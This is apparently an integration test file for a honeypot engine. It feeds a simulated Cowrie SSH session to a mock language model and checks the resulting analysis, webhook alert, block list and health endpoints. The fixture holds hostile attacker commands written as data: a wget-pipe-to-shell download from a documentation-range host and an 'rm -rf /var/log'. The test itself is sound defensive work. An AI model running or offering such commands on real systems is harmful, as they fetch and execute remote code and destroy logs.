import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AnalysisPage } from '@cerberusmesh/contract/api-analyses';
import { HealthReport, StatusReport } from '@cerberusmesh/contract/api-health';
import { ChannelList, ChannelTestResult } from '@cerberusmesh/contract/notice';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { createTestDatabase, type TestDatabase } from './support/database.ts';
import { type EngineProcess, startProcess } from './support/engine-process.ts';
import { type HttpSink, startHttpSink } from './support/http-sink.ts';
import { eventIds, type LlmServer, soberReading, startLlmServer } from './support/llm-server.ts';

describe('the slow lane of the engine, with a language model and a webhook', () => {
  let server: LlmServer;
  let sink: HttpSink;
  let database: TestDatabase;
  let folder: string;
  let up: EngineProcess;
  let url: string;
  let token: string;
  beforeAll(async () => {
    [server, sink, database] = await Promise.all([startLlmServer(), startHttpSink(), createTestDatabase()]);
    folder = await mkdtemp(join(tmpdir(), 'cerberus-analyst-'));
    server.answer((question) => ({
      text: JSON.stringify({ ...soberReading(question), threat_score: 1, recommended_action: 'escalate' }),
    }));
    up = startProcess(['up'], {
      CERBERUS_DATA_DIR: folder,
      DATABASE_URL: database.url,
      COWRIE_LOG_PATH: join(folder, 'cowrie.json'),
      PORT: '0',
      CERBERUS_LLM_PROVIDER: 'openai-compatible',
      CERBERUS_LLM_BASE_URL: server.url,
      CERBERUS_LLM_MODEL: 'test-model',
      CERBERUS_WEBHOOK_URL: sink.url,
      CERBERUS_WEBHOOK_SECRET: 's3cret',
      CERBERUS_PUBLIC_URL: 'https://honeynet.example',
    });
    url = await up.untilSaid(/is up:\s+(\S+)/);
    token = await up.untilSaid(/(cm_[\w-]+)/);
  }, 60_000);
  afterAll(async () => {
    await up.kill('SIGTERM');
    await Promise.all([server.close(), sink.close()]);
    await database.drop();
    await rm(folder, { recursive: true, force: true });
  });

  it('has a grave session read once it is over, stores the reading with true citations, and shows it', async () => {
    await writeFile(
      join(folder, 'cowrie.json'),
      visit('s1', ['wget http://192.0.2.9/x.sh -O- | sh', 'rm -rf /var/log']),
    );
    const { data } = await untilAnalysed('s1');
    const [analysis] = data;
    expect(analysis).toMatchObject({ status: 'read', model: 'test-model', reused: false, input_tokens: 900 });
    expect(analysis?.citations).toEqual([eventIds(server.questions[0] ?? { data: '' })[0]]);
    const events = await database.pool.query('select id from events where session_id = $1', ['s1']);
    expect(events.rows.map((row) => row.id)).toContain(analysis?.citations[0]);
  }, 60_000);

  it('says in /health and /status that it asks, and what it has used', async () => {
    expect(await get('/health', HealthReport)).toMatchObject({ analyst: 'ready' });
    expect(await get('/status', StatusReport)).toMatchObject({
      analyst: { state: 'ready', provider: 'openai-compatible', model: 'test-model', requests_this_hour: 1 },
    });
  });

  it('tells people on the channel, and has the address on the block feed in the same breath', async () => {
    await expect.poll(() => sink.taken.length, { timeout: 30_000 }).toBe(1);
    expect(JSON.parse(sink.taken[0]?.body ?? '')).toMatchObject({
      type: 'notice',
      severity: 'HIGH',
      notice: {
        where: { sensor: 'sensor-a', session: 's1', address: '9.9.9.9' },
        evidence: expect.arrayContaining([
          expect.objectContaining({ text: expect.stringContaining('hxxp://192[.]0') }),
        ]),
        links: expect.arrayContaining([
          { name: 'Session', url: 'https://honeynet.example/#/sessions/s1?sensor=sensor-a' },
        ]),
      },
    });
    await expect.poll(() => text('/api/feeds/blocklist'), { timeout: 30_000 }).toBe('9.9.9.9\n');
    expect((await get('/api/channels', ChannelList)).data).toMatchObject([{ name: 'webhook', sent: 1, waiting: 0 }]);
  }, 90_000);

  it('has a button that tries a channel, and says why it fails', async () => {
    const press = async () => {
      const headers = { authorization: `Bearer ${token}` };
      const answer = await fetch(`${url}/api/channels/webhook/test`, { method: 'POST', headers });
      return ChannelTestResult.parse(await answer.json());
    };
    expect(await press()).toEqual({ delivered: true, error: null });
    sink.status(403);
    expect(await press()).toMatchObject({ delivered: false, error: expect.stringContaining('403') });
  });

  async function text(path: string): Promise<string> {
    return await (await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${token}` } })).text();
  }

  async function untilAnalysed(sessionId: string) {
    for (;;) {
      const page = await get(`/api/analyses?session_id=${sessionId}`, AnalysisPage);
      if (page.data.length > 0) return page;
      // The job waits until the session has been quiet; here only the queue's clock is moved.
      await database.pool.query("update jobs set run_at = now() where kind = 'analyse' and run_at > now()");
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  async function get<Schema extends z.ZodType>(path: string, schema: Schema): Promise<z.output<Schema>> {
    const answer = await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    return schema.parse(await answer.json());
  }
});

/** A visit that has ended, as Cowrie writes it. */
function visit(session: string, commands: readonly string[]): string {
  let second = 0;
  const base = { session, src_ip: '9.9.9.9', src_port: 4711, protocol: 'ssh', sensor: 'sensor-a' };
  const line = (fields: object) =>
    JSON.stringify({ ...base, ...fields, timestamp: new Date(Date.now() - 60_000 + second++ * 1000).toISOString() });
  return `${[
    line({ eventid: 'cowrie.session.connect', dst_ip: '192.0.2.1', dst_port: 2222 }),
    line({ eventid: 'cowrie.login.success', username: 'root', password: 'root' }),
    ...commands.map((input) => line({ eventid: 'cowrie.command.input', input })),
    line({ eventid: 'cowrie.session.closed', duration_ms: 5000 }),
  ].join('\n')}\n`;
}
